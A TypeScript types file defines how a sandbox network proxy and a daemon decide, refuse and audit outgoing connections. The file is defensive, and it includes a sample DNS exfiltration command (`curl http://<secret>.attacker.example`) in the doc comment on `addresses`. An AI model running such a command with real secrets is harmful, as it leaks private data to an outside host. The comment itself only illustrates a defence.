/**
 * The contract between the network proxy (what a sandboxed run connects to) and the daemon's decision on
 * each new connection. Pure types.
 *
 * Trust boundary: a `ConnectionRequest` is built by the proxy from what the sandboxed program sent (host,
 * port, protocol: untrusted) and from what the daemon knows itself (the run, by the socket the connection
 * came in on; the addresses, by the proxy's own resolution). Nothing in it comes from a field the sandbox
 * can set about who it is.
 */
import type { NetworkProtocol } from '../rules/index.js';

export type { NetworkProtocol };

/** One new connection a sandboxed run asks the proxy for. */
export interface ConnectionRequest {
  /** the daemon's id of the run whose sandbox reached the proxy (from the socket it came in on) */
  runId: string;
  /** canonical host as asked (lower case, no trailing dot; IPv6 without brackets), as rules/network.ts normalises */
  host: string;
  port: number;
  /** http: plain HTTP forwarded; https: HTTP CONNECT; socks5_tcp / socks5_udp: SOCKS5 */
  protocol: NetworkProtocol;
  /**
   * The addresses the proxy connects to (it connects only to these). At `decide()` a name has none yet: the
   * proxy resolves a name only after an allow, so a denied name is never looked up (no DNS exfiltration:
   * `curl http://<secret>.attacker.example` sends nothing anywhere). An IP literal is its own address.
   * `closed()` reports the addresses resolved and connected to.
   */
  addresses: string[];
}

/** Where a connection decision came from (audited; `gate log --decision` filters on `decision`). */
export type ConnectionDecisionSource = 'rule' | 'config' | 'granted-run' | 'granted-session' | 'approval' | 'policy' | 'default';

export interface ConnectionDecision {
  decision: 'allow' | 'deny';
  /** one line for a person: shown in the 403 body, the SOCKS failure log and `gate-sh: network: denied ...` */
  reason: string;
  source: ConnectionDecisionSource;
  /** `file:line` of the deciding network_rule, when a rule decided */
  rule?: string;
  /**
   * An allow that names this very host (an exact `network_rule(host=...)`, a config entry of this host, an
   * approval of this host): not a wildcard (`*.x`, `**.x`), not a default. Only then may the proxy connect
   * to a loopback, private (RFC 1918, fc00::/7), link-local, CGNAT, unspecified or multicast address, for a
   * host that is such a literal or whose name resolves there (src/network/address-ranges.ts); otherwise the
   * proxy refuses after the allow ("<host> resolves to 127.0.0.1 (loopback), which no rule names").
   */
  namesHost?: boolean;
  /** the prompt that decided it, when a person was asked (or the daemon answered for nobody) */
  approvalId?: string;
}

/*
 * Who refuses what (the proxy and the daemon's decider, src/daemon/network-decider.ts):
 * - The decider decides on the host as asked (src/decide/network.ts): rules, config lists, grants, the
 *   approval policy. It refuses a literal non-public host (`127.0.0.1`, `::1`, `10.1.2.3`), the names
 *   `localhost` and `*.localhost`, and any non-public address in `addresses`, unless an allow
 *   network_rule or an `allowed_domains` entry names the host exactly (then `namesHost` is true). A grant
 *   (approved for the run or the session) is not such a naming: a person approves a name, not where it
 *   will resolve, so an approved name that resolves to 169.254.169.254 stays refused; a saved
 *   network_rule is one. It never resolves names.
 * - The proxy resolves a name only after an allow, connects only to what it resolved, refuses a
 *   non-public address unless `namesHost`, and fails closed when resolution fails. Its denial prints
 *   `gate-sh: network: denied <host>:<port>: <reason>` with the decision's reason.
 * - Every connection is decided (grants make a granted host:port of a run cheap; concurrent asks of one
 *   run for one host:port share one prompt) and reported once when it closes, for the audit log.
 */

/** What a connection carried, reported once when it closes (for the audit record). */
export interface ConnectionClosed {
  request: ConnectionRequest;
  decided: ConnectionDecision;
  bytesUp: number;
  bytesDown: number;
  durationMs: number;
  /** why the proxy refused or failed a connection the decision allowed: the name did not resolve (fails
   *  closed), it resolved to a local range no rule names, the TLS server name differs from the host, the
   *  destination refused; absent when it carried data as asked */
  error?: string;
}

/**
 * The daemon's side: decide a new connection (may wait for a person; `signal` aborts when the client went
 * away) and hear about it when it closes.
 */
export interface NetworkDecider {
  decide(request: ConnectionRequest, signal: AbortSignal): Promise<ConnectionDecision>;
  closed(report: ConnectionClosed): void;
}
